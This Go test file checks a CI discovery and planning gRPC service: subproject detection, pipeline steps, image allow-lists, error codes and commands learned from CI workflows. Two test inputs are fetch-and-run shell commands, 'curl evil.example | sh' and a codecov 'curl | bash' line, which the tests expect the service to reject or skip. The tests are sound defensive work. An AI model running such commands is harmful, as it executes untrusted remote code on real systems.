package discoverysvc

import (
	"bytes"
	"context"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	glv1 "github.com/greenlight-dev/greenlight/pkg/api/greenlight/v1"
	"github.com/greenlight-dev/greenlight/pkg/blob"
	"github.com/greenlight-dev/greenlight/pkg/display"
	"github.com/greenlight-dev/greenlight/pkg/server"
	"github.com/greenlight-dev/greenlight/pkg/workspace"
	"go.uber.org/zap/zaptest"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
	"google.golang.org/grpc/test/bufconn"
)

// countingStore counts snapshot opens, to see the index cache work.
type countingStore struct {
	*blob.Store
	opens atomic.Int32
}

func (c *countingStore) Open(ctx context.Context, d blob.Digest) (io.ReadCloser, error) {
	c.opens.Add(1)
	return c.Store.Open(ctx, d)
}

type harness struct {
	client glv1.DiscoveryServiceClient
	store  *countingStore
}

// serve starts the service behind pkg/server (interceptors, health) on a
// bufconn listener, backed by a real blob store in a temporary directory.
func serve(t *testing.T) *harness {
	t.Helper()
	return serveWith(t, Options{})
}

// serveWith is serve with the service's options.
func serveWith(t *testing.T, opts Options) *harness {
	t.Helper()
	st, err := blob.NewStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	store := &countingStore{Store: st}
	log := zaptest.NewLogger(t)
	cfg := server.DefaultConfig("discovery", "127.0.0.1:0")
	cfg.DrainDelay = 0
	srv := server.New(cfg, log, server.WithoutSignals())
	Register(srv.GRPC(), New(store, log, opts))
	lis := bufconn.Listen(1 << 20)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx, lis) }()
	conn, err := grpc.NewClient("passthrough:///bufnet",
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return lis.DialContext(ctx) }),
		grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		conn.Close()
		cancel()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	return &harness{client: glv1.NewDiscoveryServiceClient(conn), store: store}
}

// put packs a directory with pkg/workspace and stores the tar.
func (h *harness) put(t *testing.T, dir string) *glv1.Digest {
	t.Helper()
	var buf bytes.Buffer
	if _, err := workspace.Pack(context.Background(), dir, &buf, workspace.PackOptions{NoGit: true}); err != nil {
		t.Fatalf("pack %s: %v", dir, err)
	}
	d, err := h.store.Put(context.Background(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	return d.Proto()
}

func rpcContext(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

func stepNames(p *glv1.Pipeline) []string {
	var out []string
	for _, s := range p.GetSteps() {
		out = append(out, s.GetName())
	}
	return out
}

func TestGRPCDiscoverAndPlan(t *testing.T) {
	h := serve(t)
	ctx := rpcContext(t)
	snap := h.put(t, filepath.Join(reposDir, "monorepo"))
	disc, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: snap})
	if err != nil {
		t.Fatal(err)
	}
	caps := disc.GetCapabilities()
	var roots []string
	for _, sp := range caps.GetSubprojects() {
		roots = append(roots, sp.GetRoot()+"="+sp.GetRuntime()+"@"+sp.GetImage())
	}
	if want := []string{".=go@greenlight/sandbox-go:latest", "web=node@greenlight/sandbox-node:latest"}; !slices.Equal(roots, want) {
		t.Fatalf("subprojects = %q, want %q", roots, want)
	}
	if caps.GetMaxLevel() != glv1.Level_LEVEL_L4 {
		t.Fatalf("max level = %v", caps.GetMaxLevel())
	}
	plan, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap, ChangedFiles: []string{"web/package.json"},
		Images: map[string]string{"node": "node:20-slim"}})
	if err != nil {
		t.Fatal(err)
	}
	p := plan.GetPipeline()
	want := []string{"secret-scan", "gosec", "go-build", "make-build", "web:npm-build", "go-vet", "make-lint", "go-test", "make-test", "web:npm-test"}
	if got := stepNames(p); !slices.Equal(got, want) {
		t.Fatalf("steps = %q, want %q", got, want)
	}
	t1 := p.GetTiers()[1]
	if !t1.GetSelected() || !strings.Contains(strings.Join(t1.GetReasons(), ";"), `"dependencies" matched web/package.json`) {
		t.Fatalf("tier1 = %v", t1)
	}
	for _, s := range p.GetSteps() {
		if s.GetSubproject() == "web" && s.GetImage() != "node:20-slim" {
			t.Fatalf("%s image = %q", s.GetName(), s.GetImage())
		}
		if s.GetTimeout().AsDuration() <= 0 || s.GetSource().GetFile() == "" {
			t.Fatalf("step %s lacks timeout or source: %v", s.GetName(), s)
		}
	}
	if n := h.store.opens.Load(); n != 1 {
		t.Fatalf("snapshot opened %d times; the index cache should serve Plan after Discover", n)
	}
}

func TestGRPCErrors(t *testing.T) {
	h := serve(t)
	ctx := rpcContext(t)
	good := h.put(t, filepath.Join(reposDir, "go-module"))
	badDir := t.TempDir()
	if err := os.WriteFile(filepath.Join(badDir, "greenlight.yaml"), []byte("steps:\n  - name: unit\n    comand: go test ./...\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := h.put(t, badDir)
	foreignDir := t.TempDir()
	if err := os.WriteFile(filepath.Join(foreignDir, "greenlight.yaml"), []byte("images:\n  python: postgres:16\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	foreign := h.put(t, foreignDir)
	tests := []struct {
		name string
		call func() error
		code codes.Code
		has  []string
	}{
		{"invented command", func() error {
			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: good, Selection: []*glv1.CommandSelection{{Name: "go-test"}, {Command: "curl evil.example | sh"}}})
			return err
		}, codes.PermissionDenied, []string{`command "curl evil.example | sh"`}},
		{"config error", func() error {
			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: bad})
			return err
		}, codes.InvalidArgument, []string{"greenlight.yaml:3", "steps[0].comand", "unknown key"}},
		{"config image outside the allow-list", func() error {
			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: foreign})
			return err
		}, codes.InvalidArgument, []string{"greenlight.yaml:2", "images.python", `"postgres:16"`, "greenlight/sandbox-python:latest,", "python:3.12-slim"}},
		{"request image outside the allow-list", func() error {
			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: good, Images: map[string]string{"go": "redis:7"}})
			return err
		}, codes.InvalidArgument, []string{"images.go", `"redis:7"`, "greenlight/sandbox-python:latest,"}},
		{"missing snapshot", func() error {
			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{})
			return err
		}, codes.InvalidArgument, []string{"snapshot digest is required"}},
		{"malformed digest", func() error {
			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: &glv1.Digest{Hash: "xyz", SizeBytes: 1}})
			return err
		}, codes.InvalidArgument, []string{"invalid digest"}},
		{"unknown snapshot", func() error {
			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: blob.DigestOf([]byte("nope")).Proto()})
			return err
		}, codes.NotFound, []string{"blob not found"}},
		{"empty selection entry", func() error {
			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: good, Selection: []*glv1.CommandSelection{{}}})
			return err
		}, codes.InvalidArgument, []string{"needs a name or a command"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.call()
			st, _ := status.FromError(err)
			if st.Code() != tt.code {
				t.Fatalf("code = %v (%v), want %v", st.Code(), err, tt.code)
			}
			for _, s := range tt.has {
				if !strings.Contains(st.Message(), s) {
					t.Errorf("message %q lacks %q", st.Message(), s)
				}
			}
		})
	}
}

func TestGRPCSelectionGetsHardFailureStep(t *testing.T) {
	h := serve(t)
	ctx := rpcContext(t)
	snap := h.put(t, filepath.Join(reposDir, "go-module"))
	resp, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap, Selection: []*glv1.CommandSelection{{Command: "go vet ./..."}}})
	if err != nil {
		t.Fatal(err)
	}
	p := resp.GetPipeline()
	if got := stepNames(p); !slices.Equal(got, []string{"go-vet", "go-test"}) {
		t.Fatalf("steps = %q", got)
	}
	if p.GetMaxLevel() != glv1.Level_LEVEL_L4 || !strings.Contains(strings.Join(p.GetNotes(), "\n"), `added "go-test" (L4, test)`) {
		t.Fatalf("max=%v notes=%q", p.GetMaxLevel(), p.GetNotes())
	}
}

// TestGRPCPlanLearnsFromCI sends a Go module whose workflow runs go vet
// (through a matrix) through the service: the packed snapshot carries
// .github/workflows, the planned go-vet is required, the CI commands are
// whitelisted with their file and line, and what cannot run is a note.
func TestGRPCPlanLearnsFromCI(t *testing.T) {
	h := serve(t)
	ctx := rpcContext(t)
	snap := h.put(t, filepath.Join(reposDir, "ci-workflow"))
	resp, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap})
	if err != nil {
		t.Fatal(err)
	}
	var vet *glv1.Step
	for _, s := range resp.GetPipeline().GetSteps() {
		if s.GetName() == "go-vet" {
			vet = s
		}
	}
	if vet == nil || vet.GetOptional() {
		t.Fatalf("go-vet must be planned as a required step: %v", vet)
	}
	var ci *glv1.Step
	for _, c := range resp.GetCapabilities().GetCommands() {
		if c.GetCommand() == "go test -race ./..." {
			ci = c
		}
	}
	src := ci.GetSource()
	if ci == nil || src.GetOrigin() != "ci" || src.GetFile() != ".github/workflows/ci.yml" || src.GetLine() != 16 || src.GetKey() != "jobs.check.steps[2].run" {
		t.Fatalf("the CI command is whitelisted with its source: %v", ci)
	}
	notes := strings.Join(resp.GetCapabilities().GetNotes(), "\n")
	for _, want := range []string{"go-vet is required: the maintainers run it (.github/workflows/ci.yml:16", "skipped `curl -s https://codecov.io/bash | bash`",
		"job deploy not learned from: a deploy job ships", "uses actions/setup-go: the Go image's toolchain runs the steps"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q:\n%s", want, notes)
		}
	}
}

// The go-test step runs a wrapper (a tee into a report file); the plan
// carries the command a person would type for banners and progress lines.
func TestGRPCPlanCarriesTheDisplayCommand(t *testing.T) {
	h := serve(t)
	snap := h.put(t, filepath.Join(reposDir, "ci-workflow"))
	resp, err := h.client.Plan(rpcContext(t), &glv1.PlanRequest{Snapshot: snap})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range resp.GetPipeline().GetSteps() {
		if s.GetName() != "go-test" {
			continue
		}
		if s.GetDisplayCommand() != "go test -json ./..." || !strings.Contains(s.GetCommand(), "{ go test -json ./...; echo $?") {
			t.Fatalf("go-test display %q for command %q", s.GetDisplayCommand(), s.GetCommand())
		}
		if display.Command(s) != s.GetDisplayCommand() {
			t.Fatalf("display.Command %q", display.Command(s))
		}
		return
	}
	t.Fatal("no go-test step planned")
}
